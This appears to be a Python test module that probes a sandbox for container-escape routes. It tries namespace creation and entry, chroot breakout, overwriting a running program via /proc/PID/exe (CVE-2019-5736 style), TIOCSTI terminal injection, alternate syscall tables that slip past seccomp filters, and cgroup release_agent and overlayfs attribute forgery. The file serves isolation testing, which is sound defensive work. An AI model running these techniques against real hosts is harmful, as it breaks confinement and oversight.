"""Attacks that bend a mechanism: programs in memory, /proc/self/exe, terminals, other call tables, overlay attributes."""

# An attack is written in the calls that it makes:
# ruff: noqa: PTH101, PTH103, PTH110, PTH123

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import mmap
import os
import pty
import shutil
import signal
import struct
import subprocess
import termios

from kit import LIBC, attack, kernel, others, read, tried, written

_X86 = os.uname().machine == "x86_64"
_SPACES = {
    "user": 0x10000000,
    "mnt": 0x20000,
    "net": 0x40000000,
    "pid": 0x20000000,
    "ipc": 0x8000000,
    "uts": 0x4000000,
    "cgroup": 0x2000000,
}


def _in_child(action):
    """What a child answers to `action`; its namespaces are not ours."""
    pid = os.fork()
    if pid == 0:
        try:
            os._exit(0 if action() else 1)
        finally:
            os._exit(2)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0


@attack()
def make_namespaces(order):
    """unshare of each kind, alone and with a user namespace."""
    ways = [*_SPACES.items()] + [(f"user+{name}", flag | _SPACES["user"]) for name, flag in _SPACES.items()]
    return [name for name, flag in ways if _in_child(lambda flag=flag: LIBC.unshare(flag) == 0)]


@attack()
def clone_a_namespace(order):
    """The same flag for clone, whose flags a filter can see."""
    pid = LIBC.syscall(56 if _X86 else 220, ctypes.c_ulong(_SPACES["user"] | signal.SIGCHLD), None, None, None, None)
    if pid == 0:
        os._exit(0)
    return pid > 0


@attack()
def clone3_a_namespace(order):
    """clone3 keeps its flags in memory, where no filter can look."""
    arguments = struct.pack("=8Q", _SPACES["user"], 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    pid = LIBC.syscall(435, ctypes.create_string_buffer(arguments), 64)
    if pid == 0:
        os._exit(0)
    return pid > 0


@attack()
def enter_namespaces(order):
    """setns into one's own, and everybody else's."""
    found = []
    for pid in ("self", "1", str(os.getppid()), str(order["daemon"])):
        for name in ("user", "mnt", "net", "pid", "ipc", "uts"):
            fd = tried(os.open, f"/proc/{pid}/ns/{name}", os.O_RDONLY)
            if fd is not None and _in_child(lambda fd=fd: LIBC.setns(fd, 0) == 0):
                found.append((pid, name))
    if order["run"] == "control":  # nobody may enter its own user namespace again: make one to enter
        found += ["one of our own"] if _in_child(_enter_own) else []
    return found


def _enter_own():
    ours, theirs = os.pipe()
    pid = os.fork()
    if pid == 0:
        LIBC.unshare(_SPACES["user"] | _SPACES["uts"])
        os.write(theirs, b"!")
        signal.pause()
    os.read(ours, 1)
    fd = os.open(f"/proc/{pid}/ns/user", os.O_RDONLY)
    done = LIBC.setns(fd, 0) == 0
    os.kill(pid, signal.SIGKILL)
    return done


@attack("seccomp,caps")
def change_the_root(order):
    """chroot, and out of it again."""
    os.makedirs("/tmp/jail", exist_ok=True)
    fd = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(fd)
    return True


@attack()
def run_a_program_from_memory(order):
    """memfd and execveat: allowed, and no more than any other program. It reads what is outside."""
    fd = os.memfd_create("program")
    with open("/bin/cat" if os.path.exists("/bin/cat") else "/usr/bin/cat", "rb") as source:
        os.write(fd, source.read())
    ended = subprocess.run(
        [f"/proc/self/fd/{fd}", order["secret_file"]], pass_fds=[fd], capture_output=True, check=False
    )
    return ended.stdout.decode()


@attack()
def overwrite_a_running_program(order):
    """The program of who started us, held by O_PATH until it has ended (the shape of CVE-2019-5736)."""
    if order["run"] == "control":
        path = f"{order['target']}/program"
        shutil.copy("/bin/sleep", path)
        process = subprocess.Popen([path, "60"])
        fd = os.open(f"/proc/{process.pid}/exe", os.O_PATH)
        process.kill()
        process.wait()
        os.chmod(path, 0o777)
        return written(f"/proc/self/fd/{fd}", "wb")
    found = []
    for pid in (1, os.getppid(), os.getpid(), *others()):
        fd = tried(os.open, f"/proc/{pid}/exe", os.O_PATH)
        if fd is not None and tried(os.open, f"/proc/self/fd/{fd}", os.O_WRONLY) is not None:
            found.append(pid)
        if tried(os.open, f"/proc/{pid}/exe", os.O_RDWR) is not None:
            found.append(pid)
    return found


@attack(unless="user: the kernel may keep it for user 0 (dev.tty.legacy_tiocsti)")
def type_into_a_terminal(order):
    """TIOCSTI, also with bits above those that the kernel looks at (CVE-2019-10063)."""
    master, slave = pty.openpty()
    del master
    requests = (0x5412, 0x5412 | (1 << 32), 0x541C, 0x5423 | (7 << 40))
    return [hex(request) for request in requests if _in_child(lambda request=request: _type(slave, request))]


def _type(slave, request):
    os.setsid()
    fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
    word = ctypes.create_string_buffer(b"x")
    number = 16 if _X86 else 29
    return LIBC.syscall(ctypes.c_long(number), ctypes.c_long(slave), ctypes.c_ulong(request), word) == 0


@attack(unless="nobody's terminal is here")
def open_the_terminal(order):
    """/dev/tty of whoever started rsi."""
    return tried(os.open, "/dev/tty", os.O_RDWR) is not None


def _machine_code(code):
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))


@attack(unless="no 32-bit calls on this machine")
def use_the_old_call_table(order):
    """`int 0x80` is judged by another table of numbers: 20 is getpid there, and writev in ours."""
    if not _X86:
        return None
    function = _machine_code(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    return _in_child(lambda: function() == os.getpid())


@attack(unless="the kernel has no x32")
def use_the_third_call_table(order):
    """x32 numbers have bit 30 set, and mean mostly the same."""
    return _X86 and tried(kernel, 0x40000000 | 39) == os.getpid()


@attack()
def write_about_ourselves(order):
    """Who we are, how we count when memory runs out, which clocks we see."""
    found = []
    for name, text in (
        ("uid_map", b"0 0 1"),
        ("gid_map", b"0 0 1"),
        ("setgroups", b"allow"),
        ("timens_offsets", b"monotonic 1 0"),
    ):
        found += [name] if written(f"/proc/self/{name}", "wb", text) else []
    if order["run"] == "control":
        return found or tried(os.open, "/proc/self/comm", os.O_WRONLY) is not None
    return found


@attack()
def be_the_last_to_go(order):
    """When memory runs out, the kernel ends the highest oom_score_adj first: it must not be ours to lower."""
    started = int(read("/proc/self/oom_score_adj"))
    written("/proc/self/oom_score_adj", "wb", b"1000" if order["run"] == "control" else b"0")
    if order["run"] == "control":
        written("/proc/self/oom_score_adj", "wb", str(started).encode())
        return int(read("/proc/self/oom_score_adj")) == started
    return int(read("/proc/self/oom_score_adj")) < started


@attack()
def have_privileges(order):
    """A capability in any set, a way to gain one, no filter."""
    status = dict(line.split(":\t", 1) for line in read("/proc/self/status").splitlines() if ":\t" in line)
    found = [name for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb") if int(status[name], 16)]
    found += [] if status["NoNewPrivs"] == "1" else ["NoNewPrivs"]
    return found + ([] if status["Seccomp"] == "2" else ["Seccomp"])


@attack(unless="user: needs user 0")
def leave_the_control_group(order):
    """Its files, and release_agent, a program that the host runs. Nothing is written."""
    found = []
    for folder, folders, files in os.walk("/sys/fs/cgroup"):
        del folders[4:]
        found += [
            f"{folder}/{name}"
            for name in files
            if name in ("release_agent", "cgroup.procs") and tried(os.open, f"{folder}/{name}", os.O_WRONLY)
        ]
    return found


@attack("seccomp,caps")
def rename_the_host(order):
    """The names of the machine. (It has its own: even then the host's stays.)"""
    done = LIBC.sethostname(b"pwned", 5) == 0
    return done or LIBC.setdomainname(b"pwned", 5) == 0


@attack(unless="user: needs user 0")
def set_the_clock(order):
    """The clock cannot be in a namespace. (Control: only the capability for it is looked at.)"""
    if order["run"] == "control":
        status = read("/proc/self/status").split("CapEff:")[1].split()[0]
        return bool(int(status, 16) & (1 << 25))

    class Times(ctypes.Structure):
        _fields_ = (("seconds", ctypes.c_long), ("nanoseconds", ctypes.c_long))

    now = Times()
    LIBC.clock_gettime(0, ctypes.byref(now))
    return LIBC.clock_settime(0, ctypes.byref(now)) == 0


@attack()
def dump_core_into_a_host_program(order):
    """With a piped core_pattern a crash starts a program on the host, as user 0; only a limit of exactly 1 prevents it."""
    import resource

    return resource.getrlimit(resource.RLIMIT_CORE) != (1, 1)


@attack()
def forge_what_overlayfs_writes(order):
    """Whiteouts, and attributes that say "the bytes are elsewhere"; what sticks is looked at under the true names."""
    os.chdir(order["workspace"])
    found = []
    for name in (
        "user.overlay.redirect",
        "user.overlay.metacopy",
        "user.overlay.opaque",
        "user.overlay.whiteout",
        "trusted.overlay.opaque",
    ):
        with contextlib.suppress(OSError):
            os.setxattr("kept", name, b"y")
    with contextlib.suppress(OSError):
        os.mknod("whiteout", 0o020000, 0)
        found.append("mknod 0:0")
    number = 316 if _X86 else 276
    with contextlib.suppress(OSError):
        kernel(number, -100, b"renamed", -100, b"whited-out", 4)
        found.append("RENAME_WHITEOUT")
    return found
